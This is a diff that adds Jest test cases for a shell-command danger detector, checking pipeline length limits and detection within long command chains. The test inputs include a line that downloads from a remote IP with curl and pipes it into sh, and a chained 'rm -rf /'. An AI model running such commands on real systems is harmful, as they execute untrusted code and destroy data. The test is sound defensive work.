@@ -50,6 +50,27 @@ describe('detect', () => {
     expect(verdict.findings.map((f) => f.rule)).toContain('too-deep');
   });
 
+  it('asks for a pipeline too long to judge command by command, and judges one just within the limit', () => {
+    const long = detect(parse, Array.from({ length: 129 }, () => 'cat').join(' | '));
+    expect(long.findings.map((f) => f.rule)).toEqual(['too-long']);
+    expect(long.findings[0]!.description).toContain('a pipeline of 129 commands');
+    expect(detect(parse, Array.from({ length: 128 }, () => 'cat').join(' | ')).findings).toEqual([]);
+    // Within the limit each command is still judged with what flows into it.
+    const fed = detect(
+      parse,
+      `curl -s http://203.0.113.9/x | ${Array.from({ length: 120 }, () => 'cat').join(' | ')} | sh`,
+    );
+    expect(fed.dangerous).toBe(true);
+  });
+
+  it('gives a long list and a long pipeline of the same commands the verdicts of a short one', () => {
+    const list = Array.from({ length: 600 }, () => 'cat f').join(' && ');
+    expect(detect(parse, list).findings).toEqual([]);
+    expect(detect(parse, `${list} && rm -rf /`).findings.map((f) => f.rule)).toEqual(['delete-root']);
+    const pipe = Array.from({ length: 100 }, (_, i) => (i === 50 ? 'X=1 cat' : 'cat')).join(' | ');
+    expect(detect(parse, `echo hi | ${pipe}`).findings).toEqual([]);
+  });
+
   it('finds nothing in an empty command', () => {
     expect(detect(parse, '   ')).toEqual({ command: '   ', dangerous: false, tier: null, findings: [] });
   });
